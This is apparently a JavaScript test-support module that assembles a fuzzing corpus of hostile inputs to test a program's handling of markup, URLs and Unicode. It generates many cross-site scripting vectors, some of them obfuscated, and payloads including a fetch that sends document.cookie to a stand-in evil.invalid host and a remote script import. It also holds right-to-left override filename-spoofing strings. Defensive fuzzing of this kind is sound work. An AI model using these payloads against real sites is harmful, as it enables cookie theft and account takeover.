// Strings that have hurt other programs.
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";

const require = createRequire(import.meta.url);

/** The Big List of Naughty Strings, as npm has it. */
function naughty() {
  return require("big-list-of-naughty-strings");
}

/** The inputs of html5lib's tests, from the last parse5 that carried them: what HTML tokenizers and parsers trip over. */
function markup() {
  const data = join(dirname(require.resolve("html5lib-tests/package.json")), "test/data");
  const read = (folder, ending) =>
    readdirSync(join(data, folder))
      .filter((name) => name.endsWith(ending))
      .map((name) => readFileSync(join(data, folder, name), "utf8"));
  const trees = read("tree-construction", ".dat").flatMap((text) =>
    text.split(/(?:^|\n)#data\n/).map((test) => test.split("\n#errors")[0]),
  );
  const tokens = read("tokenizer", ".test").flatMap((text) => (JSON.parse(text).tests ?? []).map(({ input }) => input));
  return [...trees, ...tokens];
}

/** The inputs of the web platform's URL tests, which the `url` crate carries: the very crate that reads links here. */
export function urls() {
  const options = { encoding: "utf8", maxBuffer: 64 << 20 };
  const told = execFileSync(process.env.CARGO ?? "cargo", ["metadata", "--format-version", "1", "--locked", "--offline"], options);
  const { manifest_path: manifest } = JSON.parse(told).packages.find(({ name }) => name === "url");
  const tests = JSON.parse(readFileSync(join(dirname(manifest), "tests/urltestdata.json"), "utf8"));
  return [...new Set(tests.flatMap(({ input }) => (typeof input === "string" ? [input] : [])))];
}

/** What a payload does where it runs: it says so by a global, by a dialog, by a request, or in the console. */
const PAYLOADS = ["__pwn=1", "alert(1)", "fetch('https://evil.invalid/'+document.cookie)", "console.error('__pwn')", "import('//evil.invalid/x.js')"];

/** Where markup runs a payload; `@` stands for it. */
const VECTORS = [
  "<script>@</script>", "<img src=x onerror=@>", "<img src=x onerror=\"@\">", "<svg onload=@>", "<svg/onload=@//", "<body onload=@>",
  "<iframe srcdoc=\"<script>@</script>\">", "<iframe src=javascript:@>", "<object data=javascript:@>", "<embed src=javascript:@>",
  "<a href=javascript:@>x</a>", "<a href='data:text/html,<script>@</script>'>x</a>", "<form action=javascript:@><button>x", "<input autofocus onfocus=@>",
  "<details open ontoggle=@>x", "<video src=x onerror=@>", "<audio src=x onerror=@>", "<video><source onerror=@>", "<marquee onstart=@>", "<select autofocus onfocus=@>",
  "<textarea autofocus onfocus=@>", "<keygen autofocus onfocus=@>", "<meta http-equiv=refresh content='0;url=javascript:@'>", "<base href=javascript:@//>",
  "<link rel=stylesheet href=javascript:@>", "<link rel=import href=data:text/html,<script>@</script>>", "<style>@import 'javascript:@'</style>",
  "<div style=\"background:url(javascript:@)\">", "<table background=javascript:@>", "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:@><text y=20>x</text></a></svg>", "<math href=javascript:@>x</math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=@&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=@>\">", "<template><script>@</script></template>", "<template shadowrootmode=open><script>@</script></template>",
  "<x onclick=@ contenteditable autofocus tabindex=1 onfocus=@>x", "<isindex type=image src=1 onerror=@>", "<!--><script>@</script>-->", "<![CDATA[><script>@</script>]]>",
  "<?xml version='1.0'?><script>@</script>", "<img src=x:x onerror=@ <!--", "<scr<script>ipt>@</scr</script>ipt>", "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>", "<dialog open><input type=password></dialog>",
  "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=@>", "<portal src=https://evil.invalid/>", "<frameset onload=@>", "<bgsound src=javascript:@>",
  "javascript:@", "JaVaScRiPt:@", "java\nscript:@", "java\tscript:@", "\u0001javascript:@", " javascript:@", "javascript\u00a0:@", "javascript&colon;@", "&#106;avascript:@",
  "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:@", "blob:https://evil.invalid/x", "view-source:javascript:@", "filesystem:https://evil.invalid/x",
  "{{constructor.constructor('@')()}}", "${@}", "#{@}", "<%= @ %>", "[[${@}]]", "{@}", "`${@}`", "@",
];

/** What stands around a vector, so that it leaves wherever a careless program has put it. */
const AROUND = [
  ["", ""], ["\"", ""], ["'", ""], ["\">", ""], ["'>", ""], ["-->", "<!--"], ["]]>", ""], ["</title>", ""], ["</textarea>", ""], ["</script>", "<script>"],
  ["</style>", ""], ["\\\"", ""], ["&quot;>", ""], ["\u0000", "\u0000"], ["`", "`"], ["\u2028", "\u2029"],
];

/** How a careless program might have been given it. */
const ENCODED = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => [...text].map((one) => `&#${one.codePointAt(0)};`).join(""),
];

/** Vectors × payloads × surroundings × encodings, every vector with each of the others at least once. */
function injections() {
  const made = [];
  VECTORS.forEach((vector, v) => {
    PAYLOADS.forEach((payload, p) => made.push(vector.replaceAll("@", payload), ...[AROUND[(v + p) % AROUND.length]].map(([a, b]) => a + vector.replaceAll("@", payload) + b)));
    AROUND.forEach(([a, b], n) => made.push(a + vector.replaceAll("@", PAYLOADS[n % PAYLOADS.length]) + b));
    ENCODED.forEach((encode) => made.push(encode(vector.replaceAll("@", PAYLOADS[v % PAYLOADS.length]))));
  });
  return made;
}

/** One character of each class of the bidirectional algorithm, as Unicode's own BidiTest is made of them. */
const BIDI = {
  L: "a", R: "\u05d0", AL: "\u0627", EN: "1", ES: "-", ET: "$", AN: "\u0661", CS: ",", NSM: "\u0300", BN: "\u200b", S: "\t", WS: " ", ON: "!",
  LRE: "\u202a", LRO: "\u202d", RLE: "\u202b", RLO: "\u202e", PDF: "\u202c", LRI: "\u2066", RLI: "\u2067", FSI: "\u2068", PDI: "\u2069",
};

/** Texts of all pairs of those classes, and of pairs between brackets, letters and what can turn a line around. */
export function bidi() {
  const all = Object.values(BIDI);
  const pairs = all.flatMap((a) => all.map((b) => a + b));
  return [...pairs.map((pair) => `${pair}x`), ...pairs.map((pair) => `\u05d0(${pair})\u0627`), ...pairs.map((pair) => `x${pair}\u202e[12] 34`)];
}

/** The few that say most: each of them goes into every field. */
export function worst() {
  return [
    ...VECTORS.map((vector, v) => `"'>${vector.replaceAll("@", PAYLOADS[v % PAYLOADS.length])}`),
    "\u202etxt.exe\u202c", "\u2067(\u05d0", "a\u0000b\u001b[31m", "Z\u0351\u036b\u0343a\u030d\u0348lgo", "\u{e0041}\u{e0042}hidden", "\ud83d\udc69\u200d\ud83d\udcbb \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
  ];
}

/**
 * Every string, once. What is only white space, or holds half an emoji (which JSON may not carry), is left out.
 *
 * @returns {{ all: string[], counts: Record<string, number> }}
 */
export function corpus() {
  const parts = { naughty: naughty(), markup: markup(), urls: urls(), injections: injections(), bidi: bidi() };
  const all = [...new Set(Object.values(parts).flat())].filter((text) => /\P{White_Space}/u.test(text) && text.isWellFormed());
  const counts = Object.fromEntries(Object.entries(parts).map(([name, list]) => [name, new Set(list).size]));
  return { all, counts };
}
